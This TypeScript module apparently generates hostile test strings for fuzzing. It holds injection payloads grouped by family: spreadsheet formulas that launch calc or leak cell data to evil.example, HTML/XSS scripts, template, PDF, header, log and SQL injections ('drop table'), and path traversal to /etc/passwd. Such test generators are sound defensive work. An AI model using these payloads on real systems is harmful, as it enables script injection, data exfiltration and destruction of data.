import type { Random } from '../../src/operator/demo/random.ts';

const evil = 'window.__pwned=1';
const esc = '\u001b';

/** Texts that have caused harm elsewhere: for each place where text is used, text that the place would misinterpret. */
const families: Record<string, readonly string[]> = {
  formula: [
    ...["=cmd|' /C calc'!A0", '=1+1', '+1+1', '-2+3', '@SUM(1+1)*1', '\t=1+1', '\r=1+1', '\n=1+1'],
    ...['=HYPERLINK("http://evil.example?x="&A1,"click")', '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")'],
    ...['=DDE("cmd";"/C calc";"x")', '"=1+1', '";=1+1;"', ',=1+1,', ';=1+1;', '＝1+1', '%0A=1+1', '"\n=1+1\n"'],
  ],
  separator: [
    ...['a,b', 'a;b', 'a\tb', 'a"b', 'a""b', '"a"', "'a'", 'a\nb', 'a\r\nb', 'a\\', 'a|b', '\\N', '\\.', 'a\u2028b'],
    ...['a\u2029b', 'a\u0085b', 'a\vb\fc'],
  ],
  html: [
    ...[`<script>${evil}</script>`, `<img src=x onerror=${evil}>`, `"><svg onload=${evil}>`],
    ...[`' onmouseover='${evil}`, `" autofocus onfocus="${evil}`, `javascript:${evil}`],
    ...[`<iframe srcdoc="<script>parent.${evil}</script>">`, `</title><script>${evil}</script>`],
    ...[`</textarea><script>${evil}</script>`, `--><script>${evil}</script><!--`, `]]><script>${evil}</script>`],
    ...[`<a href="javascript:${evil}">x</a>`, `<math><mi xlink:href="data:x,<script>${evil}</script>">`],
    ...['&lt;script&gt;&#x3c;script&#x3e;', '<meta http-equiv=refresh content="0;url=http://evil.example">'],
    ...[`</script><script>${evil}//`, '<style>*{display:none}</style>', '<base href=http://evil.example>'],
  ],
  template: [
    ...['{{7*7}}', `\${7*7}`, '#{7*7}', '<%= 7*7 %>', '{{constructor.constructor("x")()}}', '%s%n%x', '{0}', '$&$1'],
    ...['%o %j', '__proto__', 'constructor'],
  ],
  pdf: [
    ...[') Tj ET', '(a) Tj', '>> endobj 99 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj'],
    ...['/OpenAction << /S /Launch /F (calc.exe) >>', 'endstream endobj', '%%EOF', 'trailer << /Root 99 0 R >>'],
    ...['\\) \\( \\\\', '<</URI (http://evil.example) /S /URI>>', 'BT /F1 99 Tf ET', 'stream\r\n'],
  ],
  header: [
    ...['a\r\nX-Injected: yes', 'a\nX-Injected: yes', 'a\r\n\r\n<html>', '"; filename="evil.exe', 'a"; x="b'],
    ...["UTF-8''evil%0d%0aX-Injected:%20yes", 'a%0d%0aX-Injected: yes', 'ａ\u560a\u560dX-Injected: yes'],
  ],
  log: [
    ...[`${esc}[31mred${esc}[0m`, `${esc}]0;title\u0007`, `${esc}[2J${esc}[H`, '\n{"level":"fatal","msg":"forged"}'],
    ...['","level":"fatal","msg":"forged', '\u0008\u0008\u0008', '\u007f\u009b31m', '{"a":1}', '\\u0000\\n'],
  ],
  unicode: [
    ...['\u202eevil\u202c', '\u2066a\u2069', 'a\u200bb\u200cc\u200dd', '\ufeffa', 'e\u0301\u0301\u0301\u0301'],
    ...[`Z${'\u0300\u0316'.repeat(20)}`, 'שלום عليكم', '𝕬𝖓𝖓𝖆 👩‍👩‍👧‍👦', 'İıſß', 'a\ufffdb', '\ufffe\uffff', '\u0000'],
    ...['a\u0000b', '\ud800', 'a\udfffb', '\u{10ffff}', '﷽'],
  ],
  sql: [
    ...["' or 1=1 --", "'; drop table employees; --", '$1', '\\', '%_%', '$$x$$', "E'\\x41'", 'x::int', 'a*'],
    ...['/* x */', 'null', 'NULL', '%', '_'],
  ],
  path: [
    ...['../../../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/passwd', 'C:\\x.exe', 'a/b', '.htaccess', 'CON'],
    ...['x.pdf.exe', '%2e%2e%2f', 'a:b*c?d<e>f|g', '~root', 'x\u202efdp.exe'],
  ],
  long: [100, 101, 199, 200, 201, 254, 255, 256, 2_000, 20_000].map((length) => 'W'.repeat(length)),
};

const tails = ['', '', '', '', '"', "'", '\\', '>', ')', '<', '&', '\t', ',', ';', '\u200b', ' '];

/** Returns a mark that identifies one text. No other text contains it. */
const markOf = (number: number) => `Zq${String(number).padStart(3, '0')}q`;

export interface HostileText {
  family: string;
  mark: string;
  text: string;
}

/** Characters that break the line, change the direction of the text, or replace lost letters. */
const notInNames = /[\p{Cc}\p{Zl}\p{Zp}\u202a-\u202e\u2066-\u2069\ufffd]/u;

/** Returns whether the text is a valid name. Surrounding space does not count. */
export function isName(text: string, maxLength: number): boolean {
  const trimmed = text.trim();
  return text.isWellFormed() && !notInNames.test(trimmed) && [...trimmed].length <= maxLength;
}

/** Generates texts from one or two seeds, each with its own mark. Every seed is used before one is repeated. */
export function makeHostile(count: number, random: Random): HostileText[] {
  const seeds = Object.entries(families).flatMap(([family, texts]) => texts.map((text) => ({ family, text })));
  const order = random.shuffle(seeds);
  return Array.from({ length: count }, (_, index) => {
    const seed = order[index % order.length] ?? random.pick(seeds);
    const mark = markOf(index);
    if (seed.family === 'long') return { family: 'long', mark, text: `${mark}${seed.text.slice(mark.length)}` };
    const second = index < order.length ? '' : random.pick(seeds.filter(({ family }) => family !== 'long')).text;
    return { family: seed.family, mark, text: `${seed.text}${second}${mark}${random.pick(tails)}` };
  });
}
